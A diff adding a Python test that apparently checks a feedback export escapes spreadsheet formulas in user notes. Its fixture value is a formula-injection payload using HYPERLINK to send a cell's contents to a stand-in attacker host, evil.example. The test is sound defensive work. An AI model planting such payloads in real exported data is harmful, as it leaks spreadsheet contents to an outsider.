@@ -57,6 +57,17 @@ async def test_the_last_word_on_a_scan_is_exported_with_its_hash(system: System,
     assert (row["side"], row["model_sha256"]) == ("left", made.model.sha256)
 
 
+async def test_a_note_is_never_a_formula_in_a_spreadsheet(system: System, tmp_path: Path) -> None:
+    """Whoever has a link writes notes; whoever runs the installation opens them."""
+    note = '=HYPERLINK("http://evil.example?"&A1; "click")'
+    submitted = await system.submit()
+    await system.until_idle()
+    assert (await judged(system, submitted, verdict="unsure", note=note))[0] == 303
+    exported = CliRunner().invoke(app, ["feedback", "export", "--data", str(tmp_path / "data")])
+    [row] = csv.DictReader(io.StringIO(exported.stdout))
+    assert row["note"] == f"'{note}"
+
+
 async def test_feedback_that_is_none_is_refused_in_words(system: System) -> None:
     """Nothing is kept of it."""
     submitted = await system.submit()
